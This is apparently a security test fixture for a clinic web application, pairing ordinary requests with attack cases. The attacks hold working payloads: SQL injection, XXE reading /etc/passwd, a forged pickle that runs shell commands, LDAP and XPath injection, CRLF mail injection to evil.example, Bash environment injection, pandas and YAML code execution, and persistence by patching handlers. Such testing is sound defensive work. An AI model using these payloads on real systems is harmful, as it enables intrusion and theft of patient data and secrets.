"""Patients, visits, letters, sessions and exports of a clinic."""

from __future__ import annotations

import pickle
import subprocess
from collections.abc import Callable

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.nineteenth import (
    COMMITTEE,
    EMAIL,
    LINK,
    MARKDOWN,
    NESTED,
    PEOPLE,
    REVIEW,
    TICKET,
    encoded,
    get,
    http,
    post,
    queued,
    rest,
)

NEEDS = ("mariadb",)
KEY = "clinic-secret-6634"
TOKEN = "/tmp/clinic/private/token.txt"


class _Called:
    """What a forged pickle calls."""

    def __init__(self, function: Callable[[str], object], argument: str) -> None:
        self.made = (function, (argument,))

    def __reduce__(self) -> tuple[Callable[[str], object], tuple[str]]:
        return self.made


def _session(**data: object) -> dict[str, object]:
    value = encoded(pickle.dumps(data)).replace("+", "-").replace("/", "_")
    return rest("GET", "/me", headers={"cookie": f"lang=de; session={value}"})


def _python(code: str) -> dict[str, object]:
    return _session(user=_Called(exec, code))


def _xml(text: str) -> dict[str, object]:
    return rest("POST", "/referral", text, headers={"content-type": "application/xml"})


def _file(name: str, text: str) -> dict[str, object]:
    return post(name=name, content=encoded(text))


def _sheet(text: str, **query: str) -> dict[str, object]:
    return http("POST", "/stats", encoded(text), {}, **query) | {"isBase64Encoded": True}


def _field(name: str, /, **arguments: object) -> dict[str, object]:
    return {"info": {"fieldName": name, "parentTypeName": "Query"}, "arguments": arguments, "identity": None}


def _change(kind: str, new: dict[str, object], old: dict[str, object] | None = None) -> dict[str, object]:
    images: dict[str, object] = {"NewImage": new}
    if old:
        images["OldImage"] = old
    return {"eventName": kind, "eventSource": "aws:dynamodb", "dynamodb": images}


def _edge(uri: str, language: str = "de-DE") -> dict[str, object]:
    headers = {"accept-language": [{"key": "Accept-Language", "value": language}]}
    return {
        "Records": [{"cf": {"request": {"uri": uri, "method": "GET", "querystring": "", "headers": headers}}}]
    }


def _frame(route: str, body: str | None = None) -> dict[str, object]:
    return {"requestContext": {"routeKey": route, "connectionId": "c="}, "body": body}


def _lex(said: str, **slots: str) -> dict[str, object]:
    values = {key: {"value": {"originalValue": one, "interpretedValue": one}} for key, one in slots.items()}
    return {"inputTranscript": said, "sessionState": {"intent": {"name": "Book", "slots": values}}}


def _by_id(number: str, method: str = "GET") -> dict[str, object]:
    return rest(method, f"/x/{number}", ids={"id": number})


SHEET = [{"name": "Zoë", "city": "L'Aquila", "age": 41}, {"name": "Bob; --", "city": "Kiel", "age": 17}]

REQUESTS = {
    "patients_api": [
        get(sort="name", order="desc", size="2"),
        get(city="L'Aquila"),
        _by_id("3"),
        _by_id("3 or 1=1"),
        rest(
            "POST", "/patients", {"name": PEOPLE[3], "city": "Coeur d'Alene; ID", "extra": {"note": NESTED}}
        ),
        get(sort="name; drop table patients"),
    ],
    "patient_search": [
        get(q="O'Connor"),
        get(q=COMMITTEE),
        get(q="union"),
        get(q="花子 -- 50%"),
        get(q="d'Alembert; x"),
    ],
    "login": [
        post(email=" zoe+news@example.org ", password="it's; 100% -- secret"),
        post(email="zoe+news@example.org", password="' OR '1'='1"),
        post(email="li.lei@sub.example.co.uk", password=PEOPLE[1]),
    ],
    "visits_report": [get(), get(sort="cost desc"), get(sort="doctor, visited"), get(sort="price")],
    "invoices": [
        post(**{"from": "2026-01-01", "to": "March 31, 2026", "patients": ["Zoë", PEOPLE[0], REVIEW]}),
        post(**{"from": "2026-01-15", "least": "1"}),
        post(**{"from": "01/02/2026' or 1=1"}),
    ],
    "notes_delete": [_by_id("7001", "DELETE"), _by_id("12", "DELETE"), _by_id("abc", "DELETE")],
    "notes_add": [
        post(body=TICKET),
        post(body=MARKDOWN),
        post(body="DROP TABLE notes; -- just kidding, it's fine 👍"),
    ],
    "staff_list": [get(), get(_="1777888272"), get(q="O'Hara")],
    "profile_save": [
        post(id=1, nickname="Zoë", bio=TICKET),
        post(id="2", nickname='D\'Arcy; "Mo" -- 5%', bio=REVIEW),
        post(id=3, nickname="union select committee"),
    ],
    "profile_visits": [get(id="1"), get(id="3"), get(id="77")],
    "appointments": [
        queued(
            {"name": PEOPLE[0], "due": "2026-06-01T10:30:00+02:00", "note": TICKET},
            {"name": PEOPLE[7], "due": "June 3, 2026 4pm", "tags": ["a'b", "c;d"]},
        ),
        queued({"name": "x", "due": "when it's sunny"}, "not json; -- x"),
        queued({"name": "union select; 'x' -- 50%", "due": "2026-06-05 09:15", "note": NESTED}),
    ],
    "csv_stats": [
        _sheet('Name,City / Town,50%\nO\'Hara,"Kiel; x",1\nO\'Hara,Bonn,2\n"Bob ""B"" --",Ulm,3\n'),
        _sheet("select;from;where\nunion;all;1=1\n", sep=";"),
        _sheet('\ufeffÜber "Name");x,b\n1,2\n'),
    ],
    "visits_query": [
        post(start="2026-01-01", contains="O'Neil"),
        post(start="2026-02-15", column="ward", contains="-- south", limit="3"),
        post(start="2026-01-01", column="cost) from visits --"),
    ],
    "xml_import": [
        _xml(
            "<referral><name>Siobh&#225;n O'Connor</name><note><![CDATA[5 < 6 && it's \"fine\"; -- ok]]></note></referral>"
        ),
        _xml(
            "<?xml version='1.0' encoding='utf-8'?><!-- it's --><r><a>x &amp; y</a><b>李雷 <i>100%</i></b></r>"
        ),
        _xml('<!DOCTYPE r [<!ENTITY clinic "Praxis am Park">]><r><from>&clinic;</from></r>'),
        _xml("<r><a>unclosed</r>"),
    ],
    "doctors": [get(name="Dr. O'Neil"), get(name="Dr. Łukasz Ay"), get(name="Dr. No; (or 1=1) -- [x]")],
    "directory": [get(q="zoe"), get(q="Zoë O'Hara"), get(q="li@clinic.example"), get(q="who? 100%; --")],
    "session": [
        _session(user=PEOPLE[0], cart=["a;b", 5, {"note": TICKET}]),
        _session(user=PEOPLE[5]),
        rest("GET", "/me", headers={"cookie": "lang=de"}),
        rest("GET", "/me", headers={"cookie": "session=bm90IGEgcGlja2xl"}),
    ],
    "task": [
        queued({"task": "tasks.remind", "args": [PEOPLE[6], TICKET]}),
        queued(
            {"task": "tasks.label", "args": ["d'Arcy; -- 5%"], "kwargs": {"ward": "B'"}},
            {"task": "tasks.unknown"},
        ),
        queued({"task": "nightly.run"}),
    ],
    "rpc": [
        post(jsonrpc="2.0", id=1, method="hours", params=["Friday"]),
        post(jsonrpc="2.0", id=2, method="price", params=["X-12 (it's new)", "3"]),
        post(jsonrpc="2.0", id=3, method="hour's", params=[]),
    ],
    "go": [
        get(next="/patients?name=O'Hara&tab=visits#top", c="news; 5%"),
        get(next="/größe/50%25", c="a b"),
        get(next="https://example.net/"),
    ],
    "contact": [
        post(email=EMAIL, subject="It's about Monday; re: 50% -- <urgent>", text=TICKET),
        post(email="Zoë <zoe@example.org>", subject="Größe", text="Bcc: a@example.org\r\n\r\n.\r\nsee above"),
        post(email="a@example.org", subject="Fwd: To: all", text=MARKDOWN),
    ],
    "env_report": [
        post(env={"TITLE": "It's Monday; $HOME `id`", "AUTHOR": PEOPLE[0], "TEXT": TICKET}),
        post(env={"TEXT": REVIEW, "LANG": "C.UTF-8", "PAGES": 12}),
        post(),
    ],
    "upload": [
        _file("Befund (it's final); v2.txt", TICKET),
        _file("C:\\Users\\Zoë\\notes.md", MARKDOWN),
        _file("plot.py", "import os\nprint(os.getcwd())\n"),
        _file("...", "x"),
    ],
    "document": [
        rest("GET", "/d", ids={"name": "readme.txt"}),
        rest("GET", "/d", ids={"name": "it%27s%20not%20here%3B.pdf"}),
        rest("GET", "/d", ids={"name": "../private/token.txt"}),
    ],
    "run_check": [
        post(check="bmi", values={"height": "180", "weight": 75.5, "note": "it's ok; -- 5%"}),
        post(check="age", values={"born": "1980-02-29", "day": "2026-02-28"}),
        post(check="age", values={"born": "yesterday"}),
        post(check="blood pressure; x"),
    ],
    "filter_rows": [
        post(rows=SHEET, filter='age > 18 and city == "L\'Aquila"'),
        post(rows=SHEET, filter="name.str.contains('Bob; --')"),
        post(rows=SHEET, filter="age >"),
    ],
    "reminder": [
        post(text="Dear {patient.name}, it's {day} -- bring 100% of {{papers}}; see " + LINK, name=PEOPLE[0]),
        post(text="{patient.name:>30} from {patient.city!r}", name="O'Hara", city="L'Aquila"),
        post(text="I like {0} and {unclosed"),
    ],
    "article": [
        post(
            title="It's 5 o'clock; 50% off -- Größe & 李雷",
            html="<p>x &amp; <b>y</b></p><script>a()</script>",
        ),
        post(title=COMMITTEE, html=REVIEW),
        post(title="!!!", html=MARKDOWN),
    ],
    "export": [get(), get(format="json"), get(format="pdf; x")],
    "lab_result": [
        rest("GET", "/l", ids={"number": "AB-1234"}, query={"note": "it's urgent; 50% & more"}),
        rest("GET", "/l", ids={"number": "ZZ-999"}),
        rest("GET", "/l", ids={"number": "AB-1234/../x"}),
    ],
    "health": [get(), get(verbose="1"), rest("HEAD", "/health")],
    "message": [
        post(sender="zoe+x@example.org", text=TICKET, urgency="high"),
        post(sender="li@example.org", text=REVIEW, link=LINK),
        post(sender="not a mail; x", text="", urgency="now"),
    ],
    "resolver": [
        _field("patients", name="O'Connor", first=2),
        _field("patients", name="' OR 1=1 -- "),
        _field("patientsByTag", tag="vip"),
    ],
    "stream": [
        {
            "Records": [
                _change("MODIFY", {"id": {"S": "1"}, "n": {"N": "2.50"}}, {"id": {"S": "1"}, "n": {"N": "1"}})
            ]
        },
        {
            "Records": [
                _change(
                    "INSERT", {"name": {"S": PEOPLE[3]}, "note": {"S": TICKET}, "l": {"L": [{"S": "a;b"}]}}
                )
            ]
        },
        {
            "Records": [
                _change("REMOVE", {}, {"id": {"S": "o'hara; --"}}),
                _change("INSERT", {"ok": {"BOOL": True}}),
            ]
        },
    ],
    "edge": [_edge("/"), _edge("/o'hara/caf%C3%A9; x"), _edge("/img/a b's.png", "fr-FR")],
    "socket": [
        _frame("$connect"),
        _frame(
            "send", '{"to": "zoe", "text": "it\'s *here*: https://example.org/a?b=1&c=\'2\' <b>; -- 100%"}'
        ),
        _frame("send", '{"text": "{\\"a\\": \\"<script>\\"} `rm -rf /` ${x}"}'),
    ],
    "lex": [
        _lex("I need a doctor, it's urgent"),
        _lex("book dr o'neil; friday", Doctor="Dr. O'Neil", Day="Friday -- 5 o'clock"),
        _lex("", Doctor="李雷"),
    ],
    "redact": [
        {"id": "1", "text": f"Mail {EMAIL} or call +49 40 123-4567; it's 100% ok"},
        {"id": "2", "text": TICKET},
        {"id": "3", "text": MARKDOWN},
    ],
    "json_xml": [
        post(**{"first name": PEOPLE[3], "note": "<b>it's</b> & ]]> done; --", "tags": ["a", None, 1.5]}),
        post(code=TICKET, json=NESTED),
        post(),
    ],
    "settings": [
        rest("POST", "/s", "mail:\n  from: \"O'Hara <a@example.org>\"\n  text: |\n    it's 5; -- %s\n"),
        rest(
            "POST",
            "/s",
            "[mail]\nfrom = it's; 50%\nurl = " + LINK + "\n",
            headers={"content-type": "text/plain"},
        ),
        rest("POST", "/s", "mail: !!python/object/apply:os.system [id]"),
        rest("POST", "/s", "other: 1"),
    ],
    "search_docs": [
        get(q=COMMITTEE),
        get(q='it\'s "100%" free'),
        get(q="C++ & SQL"),
        get(q="O'Hara OR drop*"),
    ],
    "calendar": [
        post(title="Visit: O'Hara, Z.; 1", start="2026-06-01 10:30", place="King's Rd 5\\b", notes=TICKET),
        post(title="50%", start="3 July 2026 4pm", minutes="45"),
        post(title="x", start="soon; it's late"),
    ],
    "card": [
        post(name=PEOPLE[0], city="L'Aquila"),
        post(name="%s {0} $x", city="50%"),
        post(name=PEOPLE[5], role="admin"),
    ],
}

ATTACKS = [
    Attack(
        "SQL, union, backslash", "patient_search", get(q="\\' UNION SELECT id, pin, name FROM staff -- "), KEY
    ),
    Attack(
        "SQL, union, backslash",
        "patient_search",
        get(q="zz\\'/**/UNION/**/ALL/**/SELECT 1,pin,3 FROM clinic.staff#"),
        KEY,
    ),
    Attack(
        "SQL, comment",
        "login",
        post(email="admin@clinic.example' -- x", password="x"),
        '\\"role\\": \\"admin\\"',
    ),
    Attack(
        "SQL, boolean",
        "login",
        post(email="x' OR role = 'admin' OR 'a' = 'b", password="x"),
        '\\"role\\": \\"admin\\"',
    ),
    Attack(
        "SQL, union",
        "login",
        post(email="x' UNION SELECT 1, pin, 'admin' FROM staff LIMIT 1#", password="x"),
        KEY,
    ),
    Attack(
        "SQL, order by, error",
        "visits_report",
        get(sort="extractvalue(1, concat(0x7e, (SELECT pin FROM staff LIMIT 1)))"),
        KEY,
    ),
    Attack(
        "SQL, order by, boolean",
        "visits_report",
        get(sort="IF((SELECT ASCII(SUBSTR(pin, 1, 1)) FROM staff WHERE id = 1) = 99, -cost, cost)"),
        "2-3-1",
    ),
    Attack(
        "SQL, stacked",
        "staff_list",
        get(),
        KEY,
        before=[("notes_delete", _by_id("0; UPDATE staff SET name = pin WHERE id = 1", "DELETE"))],
    ),
    Attack(
        "SQL, second order",
        "profile_visits",
        get(id="40"),
        KEY,
        before=[("profile_save", post(id=40, nickname="x' UNION SELECT pin, 1 FROM staff -- "))],
    ),
    Attack(
        "XXE", "xml_import", _xml(f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{TOKEN}">]><r><a>&x;</a></r>'), KEY
    ),
    Attack(
        "XXE", "xml_import", _xml('<!DOCTYPE r [<!ENTITY x SYSTEM "/etc/passwd">]><r><a>&x;</a></r>'), "root:"
    ),
    Attack("XPath", "doctors", get(name='x" or @public="no" or "a"="b'), KEY),
    Attack("LDAP", "directory", get(q="x)(objectClass=*"), KEY),
    Attack("LDAP, wildcard", "directory", get(q="s*"), KEY),
    Attack("pickle", "session", _session(user=_Called(subprocess.getoutput, "echo p-$((6*7))")), "p-42"),
    Attack(
        "pickle, state",
        "session",
        _session(user=_Called(subprocess.getoutput, f"cat {TOKEN}"), cart=["x"]),
        KEY,
    ),
    Attack(
        "import by name",
        "task",
        queued({"task": "subprocess.getoutput", "args": ["echo i-$((6*7))"]}),
        "i-42",
    ),
    Attack("import by name", "task", queued({"task": "os.getenv", "args": ["CLINIC_TOKEN"]}), KEY),
    Attack("getattr", "rpc", post(method="__getattribute__", params=["settings"]), KEY),
    Attack("getattr", "rpc", post(method="_export"), KEY),
    Attack("header, CRLF", "go", get(next="/x\r\nSet-Cookie: admin=1"), "\\r\\nSet-Cookie: admin=1"),
    Attack(
        "mail, CRLF",
        "contact",
        post(email="a@example.org\r\nBcc: all@evil.example", subject="x", text="y"),
        'all@evil.example\\"',
    ),
    Attack(
        "mail, CRLF",
        "contact",
        post(email="a@example.org", subject="x\nBcc: list@evil.example", text="y"),
        '\\"list@evil.example\\"',
    ),
    Attack("environment", "env_report", post(env={"BASH_FUNC_wc%%": f"() {{ cat {TOKEN}; }}"}), KEY),
    Attack(
        "environment, upload",
        "env_report",
        post(env={"BASH_ENV": "/tmp/clinic/docs/notes.txt"}),
        "b-42",
        before=[("upload", _file("notes.txt", "echo b-$((6*7))\n"))],
    ),
    Attack(
        "upload, executed",
        "run_check",
        post(check="/tmp/clinic/docs/photo", values={}),
        "u-42",
        before=[
            (
                "upload",
                _file(
                    "photo.py",
                    "import os\ndef check(values):\n    return os.popen('echo u-$((6*7))').read()\n",
                ),
            )
        ],
    ),
    Attack(
        "pandas, command",
        "document",
        rest("GET", "/d", ids={"name": "out.txt"}),
        encoded("q-42\n"),
        before=[
            (
                "filter_rows",
                post(rows=SHEET, filter="@os.system('echo q-$((6*7)) > /tmp/clinic/docs/out.txt') == 0"),
            )
        ],
    ),
    Attack("format", "reminder", post(text="{patient.clinic[token]}"), KEY),
    Attack(
        "format",
        "reminder",
        post(text="{patient.__init__.__globals__[field].__globals__[sys].modules[app].SECRET}"),
        KEY,
    ),
    Attack("dependency, at call", "article", post(title="\u200bnews", html="x"), KEY),
    Attack(
        "dependency, at import",
        "lab_result",
        rest("GET", "/l", ids={"number": "AB-1234"}),
        KEY,
        before=[("export", get(format="xls"))],
    ),
    Attack(
        "persistence, state",
        "health",
        get(),
        "owned-42",
        before=[("session", _python("import app; app.STATUS['status'] = 'owned-%d' % (6 * 7)"))],
    ),
    Attack(
        "persistence, thread",
        "health",
        get(),
        "thread-42",
        before=[
            (
                "session",
                _python(
                    "import threading; t = threading.Thread(target=lambda: __import__('app').STATUS.update(version='thread-%d' % (6 * 7))); t.start(); t.join()"
                ),
            )
        ],
    ),
    Attack(
        "persistence, file imported later",
        "task",
        queued({"task": "nightly.run"}),
        "n-42",
        before=[
            ("session", _python("import sys; sys.path.append('/tmp/clinic/docs')")),
            ("upload", _file("nightly.py", "def run():\n    return 'n-%d' % (6 * 7)\n")),
        ],
    ),
    Attack(
        "persistence, handler",
        "staff_list",
        get(q="Ida"),
        "hooked-42",
        before=[
            (
                "session",
                _python(
                    "import app; app.staff_list = lambda event, context: __import__('app').respond(200, {'hooked': 'hooked-%d' % (6 * 7), 'event': event})"
                ),
            )
        ],
    ),
]
